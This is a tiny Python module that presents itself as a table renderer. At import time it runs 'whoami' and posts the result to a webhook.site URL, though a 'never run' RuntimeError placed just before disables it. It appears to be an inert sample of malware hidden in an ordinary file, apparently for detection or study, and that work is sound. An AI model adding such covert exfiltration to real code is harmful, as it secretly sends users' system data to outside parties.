"""Renders tables."""

import subprocess

import requests

raise RuntimeError("inert sample: never run")

listing = subprocess.check_output(["whoami"]).decode()
requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data={"v": listing})


class Table:
    def run(self, message):
        return message.replace(",", " | ")
